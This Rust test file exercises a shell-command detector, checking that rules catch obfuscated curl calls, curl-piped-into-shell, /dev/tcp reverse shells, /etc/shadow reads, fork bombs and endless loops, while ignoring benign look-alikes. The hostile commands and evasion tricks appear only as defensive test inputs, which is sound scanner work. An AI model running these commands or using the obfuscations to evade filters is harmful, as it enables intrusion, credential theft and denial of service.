//! What the reader of shells sees.

use super::*;

#[test]
fn a_command_is_known_however_it_is_written() {
    found(
        "bash",
        "bash",
        "{ command: curl, arguments: { '*': { text: '^http://192' } } }",
        &[
            "curl http://192.0.2.1/",
            "/usr/bin/curl -s http://192.0.2.1/",
            "c\\url http://192.0.2.1/",
            "c\"\"ur'l' http://192.0.2.1/",
            "$'\\x63url' http://192.0.2.1/",
            "c=curl; $c http://192.0.2.1/",
            "c=cu; ${c}rl \"http://192.0.2.1/\"",
            "curl${IFS}http://192.0.2.1/",
            "$(echo curl) http://192.0.2.1/",
            "`printf 'cur\\x6c'` http://192.0.2.1/",
            "sudo -n curl http://192.0.2.1/",
            "env A=b curl http://192.0.2.1/",
            "bash -c 'curl http://192.0.2.1/'",
            "sh -xc \"curl http://192.0.2.1/\"",
            "eval 'curl http://192.0.2.1/'",
            "eval curl http://192.0.2.1/",
            "bash <<< 'curl http://192.0.2.1/'",
            "bash <<EOF\ncurl http://192.0.2.1/\nEOF\n",
            "echo 'curl http://192.0.2.1/' | sh",
            "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xLw== | base64 -d | bash",
            "bash -c \"$(echo Y3VybCBodHRwOi8vMTkyLjAuMi4xLw== | base64 --decode)\"",
            "if true; then curl http://192.0.2.1/; fi",
            "f() { curl http://192.0.2.1/; }; f",
            "x=$(curl http://192.0.2.1/)",
            "cat <(curl http://192.0.2.1/)",
            "true && curl http://192.0.2.1/ > x 2>&1 &",
            "timeout 5 curl http://192.0.2.1/",
            "python3 -c \"import os; os.system('curl http://192.0.2.1/')\"",
            "python3 - <<'EOF'\nimport os\nos.system('curl http://192.0.2.1/')\nEOF\n",
        ],
    );
    not_found("bash", "bash", "{ command: curl }", &["echo curl", "# curl x", "x=curl", "echo 'curl x' > y"]);
}

#[test]
fn what_goes_where_is_seen() {
    let piped = "{ command: [curl, wget], piped_into: [sh, bash, 'python*'] }";
    found(
        "bash",
        "bash",
        piped,
        &[
            "curl x | sh",
            "curl x | tee y | sudo -u a x | bash -s",
            "wget -O- x 2>/dev/null | python3",
            "curl x | sh > y",
        ],
    );
    not_found("bash", "bash", piped, &["curl x | grep sh", "sh | curl x", "curl x; sh"]);
    let redirected = "{ command: '*', redirected_to: '/dev/tcp/**' }";
    found(
        "bash",
        "bash",
        redirected,
        &[
            "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
            "exec 3<>/dev/tcp/$HOST/80",
            "echo x > /dev/tcp/192.0.2.1/80",
            "cat x | grep y > /dev/tcp/192.0.2.1/80",
        ],
    );
    not_found("bash", "bash", redirected, &["echo x > /dev/null"]);
    found(
        "bash",
        "bash",
        "{ path: '/etc/shadow' }",
        &["cat /etc/shadow", "cat < /etc/shadow", "cat \"/etc/sha\"dow", "[ -f /etc/shadow ]"],
    );
}

#[test]
fn loops_and_fork_bombs_are_seen() {
    found("bash", "bash", "{ structure: endless_recursion }", &[":(){ :|:& };:", "f() { f & f; }; f"]);
    not_found("bash", "bash", "{ structure: endless_recursion }", &["f() { if [ $1 ]; then f; fi; }", "f() { g; }"]);
    found(
        "bash",
        "bash",
        "{ structure: endless_loop }",
        &["while true; do x; done", "while :; do x; done", "for ((;;)); do x; done", "until false; do x; done"],
    );
    not_found(
        "bash",
        "bash",
        "{ structure: endless_loop }",
        &["while true; do break; done", "while read x; do y; done", "for i in 1 2; do x; done"],
    );
    found("bash", "bash", "{ import: './lib.sh' }", &["source ./lib.sh", ". ./lib.sh"]);
}
